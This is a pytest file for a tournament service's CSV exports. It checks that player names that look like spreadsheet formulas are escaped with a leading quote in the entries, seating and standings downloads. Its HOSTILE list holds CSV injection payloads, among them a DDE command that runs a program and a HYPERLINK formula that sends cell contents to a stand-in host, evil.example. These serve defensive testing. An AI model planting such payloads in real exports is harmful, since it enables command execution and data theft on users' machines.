"""CSV formula injection (issue 15, finding 6): players choose their own names, and every CSV the
service writes (entries, seating, standings) must open in a spreadsheet as text, never as a
formula. Numbers — a penalised player's −3 points — stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tests.api.helpers import client_for
from tests.factories import UserFactory
from tournaments.exchange.exports import csv_cell
from tournaments.services.draws import round_draw
from tournaments.services.entries import entry_check_in, entry_register
from tournaments.services.penalties import penalty_add
from tournaments.services.players import player_create
from tournaments.services.rounds import round_create, round_publish
from tournaments.standings import standings_recompute

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Wang Wei", "王伟", "", "1-2", "a=b", -3, 0, 12, 1.5])
def test_other_cells_and_numbers_are_written_unchanged(value):
    assert csv_cell(value) == value


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_every_csv_download_neutralises_hostile_names(event, organizer):
    # given players who chose formulas as their names, one of them penalised 3 points
    entries = []
    for i in range(12):
        name = HOSTILE[i % len(HOSTILE)] if i < len(HOSTILE) else f"Player {i:02d}"
        player = player_create(name=name, number=200 + i,
                                        user=UserFactory(username=f"csv{i:02d}"))
        entries.append(entry_check_in(
            entry=entry_register(event=event, player=player)))
    rnd = round_draw(round_id=round_create(event=event).pk)
    round_publish(round=rnd)
    penalty_add(event=event, entry=entries[0], kind="point_deduction", points=3,
                         reason="slow play", by=organizer)
    standings_recompute(event_id=event.pk, force=True)
    anon = client_for(None)
    base = f"/api/v1/events/{event.slug}"

    # when the public downloads every CSV
    downloads = {"entries": (_rows(anon.get(f"{base}/entries.csv")), 1),
                 "seating": (_rows(anon.get(f"{base}/rounds/1/seating.csv")), 3),
                 "standings": (_rows(anon.get(f"{base}/standings.csv")), 1)}

    # then each hostile name went out with a leading quote, in every file
    for what, (rows, name_column) in downloads.items():
        names = [row[name_column] for row in rows[1:]]
        assert len(names) == 12, what
        for hostile in HOSTILE:  # (the service strips a name's surrounding blanks)
            assert any(name.startswith("'" + hostile.strip()) for name in names), (what, hostile)
        # and no cell of the file starts a formula
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (what, row)
    # but the penalised player's points are a number a spreadsheet adds up
    standings = downloads["standings"][0]
    points = [row[standings[0].index("points")] for row in standings[1:]]
    assert "-3" in points, points
